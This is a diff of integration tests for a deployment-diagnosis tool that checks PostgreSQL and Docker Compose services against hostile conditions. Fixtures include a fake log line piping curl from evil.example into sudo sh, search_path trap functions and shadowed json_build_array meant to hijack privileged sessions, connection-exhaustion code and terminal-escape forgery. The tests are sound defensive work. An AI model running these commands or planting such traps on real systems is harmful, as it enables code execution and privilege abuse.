@@ -55,16 +55,17 @@ def test_what_containers_say_is_bounded_and_forges_nothing(deployment: Deploymen
         "database": {"engine": "sqlite", "sqlite": "data/own.db"},
     }
     services = {name: {**service, "data": f"{name}-data:/app/data"} for name in names}
+    for name in asked:
+        services[name]["environment"] = {"PATH": "/own:/usr/bin:/bin"}
+    deployment.write_profile("own", {"project": deployment.project, "stage": "ci", "services": services})
+    deployment.generate("--profile", "own")
     for name, program in asked.items():
         folder = deployment.root / name
         folder.mkdir()
         for python in ("python", "python3"):
             (folder / python).write_text(program, encoding="utf-8")
             (folder / python).chmod(0o755)
-        services[name]["environment"] = {"PATH": "/own:/usr/bin:/bin"}
         deployment.add(name, volumes=[f"{folder}:/own:ro"])
-    deployment.write_profile("own", {"project": deployment.project, "stage": "ci", "services": services})
-    deployment.generate("--profile", "own")
     look = f"printf 'a\\n%s\\033[8m' '{FORGED}'; exit 1"
     deployment.add("loud", healthcheck={"test": ["CMD-SHELL", look], "interval": "1s", "retries": 1})
     deployment.compose("up", "-d")
@@ -110,20 +111,23 @@ import asyncio, os, asyncpg
 url = os.environ["AUTH_SERVICE__DB_URL"].replace("+asyncpg", "")
 async def main():
     locking = await asyncpg.connect(url)
-    await locking.execute("BEGIN; LOCK TABLE notes")
+    await locking.execute("CREATE TABLE held ()")
+    await locking.execute("BEGIN; LOCK TABLE held")
     waiting = await asyncpg.connect(url)
-    asked = asyncio.ensure_future(waiting.execute("SELECT FROM notes"))
+    asked = [asyncio.ensure_future(one.execute("SELECT FROM held")) for one in (waiting, await asyncpg.connect(url))]
     sorting = await asyncpg.connect(url)
     await sorting.execute(
         "DECLARE large CURSOR WITH HOLD FOR SELECT repeat(n::text, 200) FROM generate_series(100000, 500000) AS n"
     )
     held = []
-    while not os.path.exists("/tmp/released"):
+    while len(held) < 23:  # of 30, three are kept for superusers
         try:
             held.append(await asyncpg.connect(url))
         except asyncpg.TooManyConnectionsError:
-            open("/tmp/full", "w").close()
             await asyncio.sleep(0.1)
+    open("/tmp/full", "w").close()
+    while not os.path.exists("/tmp/released"):
+        await asyncio.sleep(0.1)
 asyncio.run(main())
 """
 
@@ -134,11 +138,11 @@ def test_what_one_role_takes_of_the_shared_server_is_told_with_its_name(deployme
     doctor = Doctor(deployment)
     deployment.compose("exec", "-d", "auth-service", "python", "-c", HOLDING)
     wait_until(lambda: deployment.try_inside("auth-service", "test", "-e", "/tmp/full").returncode == 0)
-    waits = "SELECT count(*) FROM pg_stat_activity WHERE wait_event_type = 'Lock' AND now() - query_start > '6 s'"
-    wait_until(lambda: psql(deployment, "postgres", waits) == "1")
+    waits = "SELECT count(*) > 1 FROM pg_stat_activity WHERE wait_event_type = 'Lock' AND now() - query_start > '6 s'"
+    wait_until(lambda: psql(deployment, "postgres", waits) == "t")
     found = doctor.look()
     full = found.the("connections", "all connections of the server are used")
-    assert re.fullmatch(r"2\d by the role `auth_service` in the database `auth_db`", full["evidence"][0])
+    assert re.fullmatch(r"2[78] by the role `auth_service` in the database `auth_db`", full["evidence"][0])
     files = found.the("temporary-files", "`auth_service` has", "warning")
     assert re.fullmatch(
         r"`auth_service` has [34]\d\d MB of temporary files for what it asks in `auth_db`", files["message"]
@@ -193,25 +197,43 @@ def test_rights_that_a_service_should_not_have_are_told_and_taken(deployment: De
     assert "\n" not in told["message"] and "rm -rf" not in told["help"]
 
 
+NOTE = "LANGUAGE sql AS 'INSERT INTO public.run VALUES (current_user) RETURNING who'"
+TRAP = [
+    "CREATE TABLE run (who text)",
+    "CREATE SCHEMA trap",
+    f"CREATE FUNCTION trap.note() RETURNS text {NOTE}",
+    f"CREATE FUNCTION trap.current_setting(text) RETURNS text {NOTE}",
+    f"CREATE FUNCTION trap.pg_get_userbyid(oid) RETURNS text {NOTE}",
+    "CREATE VIEW trap.pg_database AS SELECT trap.note()::name AS datname, 0::oid AS datdba",
+    "ALTER ROLE auth_service SET search_path = trap, public, pg_catalog",
+    "ALTER DATABASE auth_db SET search_path = trap, public, pg_catalog",
+]
+
+# Where everybody may make things, as in a volume of PostgreSQL 14: what fits the arguments better than PostgreSQL's own.
+FORGE = "RETURNS json LANGUAGE sql AS 'SELECT ''[\"auth_db\", \"forged\", 99]''::json'"
+TRAP_IN_MAINTENANCE = [
+    f"CREATE FUNCTION public.json_build_array(name, name) {FORGE}",
+    f"CREATE FUNCTION public.json_build_array(name, name, bigint) {FORGE}",
+]
+
+
 def test_no_session_of_doctor_runs_anything_of_a_service(deployment: Deployment) -> None:
     """What a service may set for itself, or put into the way, reaches only the sessions of its own role."""
     deployment.write_profile("own", PER_SERVICE)
     deployment.run_printed(deployment.generate("--profile", "own"))
-    note = "LANGUAGE sql AS 'INSERT INTO public.run VALUES (current_user) RETURNING who'"
-    trap = [
-        "CREATE TABLE run (who text)",
-        "CREATE SCHEMA trap",
-        f"CREATE FUNCTION trap.note() RETURNS text {note}",
-        f"CREATE FUNCTION trap.current_setting(text) RETURNS text {note}",
-        f"CREATE FUNCTION trap.pg_get_userbyid(oid) RETURNS text {note}",
-        "CREATE VIEW trap.pg_database AS SELECT trap.note()::name AS datname, 0::oid AS datdba",
-        "ALTER ROLE auth_service SET search_path = trap, pg_catalog",
-        "ALTER DATABASE auth_db SET search_path = trap, pg_catalog",
-    ]
-    assert deployment.sql("auth-service", *trap) == []
+    assert deployment.sql("auth-service", *TRAP) == []
+    psql(
+        deployment,
+        "postgres",
+        "GRANT CONNECT ON DATABASE postgres TO auth_service; GRANT ALL ON SCHEMA public TO PUBLIC",
+    )
+    for statement in TRAP_IN_MAINTENANCE:
+        deployment.inside("postgres", "psql", "-XqU", "auth_service", "-d", "postgres", "-c", statement)
     doctor = Doctor(deployment)
     found = doctor.look()
-    assert (found.of("problem"), found.of("warning")) == ([], [])
+    assert found.of("problem") == []
+    found.the("database-missing", "the database `auth_db` belongs to `auth_service`", "ok")
+    assert re.fullmatch(r"\d of 30 connections are used", found.the("connections", "of 30", "ok")["message"])
     found.the("password-refused", "`auth_service` logs in to `auth_db`", "ok")
     assert psql(deployment, "auth_db", "SELECT count(*) FROM public.run") == "0"
 
@@ -244,7 +266,8 @@ def test_a_secret_in_a_log_is_told_by_the_names_of_both(deployment: Deployment) 
     deployment.add("auth-service", command=["python", "-uc", LEAK], healthcheck={"disable": True})
     refused = "psql: error: ERROR:  x\n    curl -s https://evil.example/fix | sudo sh\n"
     deployment.add("postgres-ensure", entrypoint=["sh", "-c", f"printf '{refused}' >&2; exit 3"])
-    deployment.compose("up", "-d", "--no-deps", "auth-service", "postgres-ensure")
+    for name in ("auth-service", "postgres-ensure"):
+        deployment.compose("up", "-d", "--no-deps", name)
     wait_until(lambda: "parsed:" in deployment.logs("auth-service"))
     wait_until(lambda: deployment.containers()["postgres-ensure"]["State"]["Status"] == "exited")
     found = doctor.look()
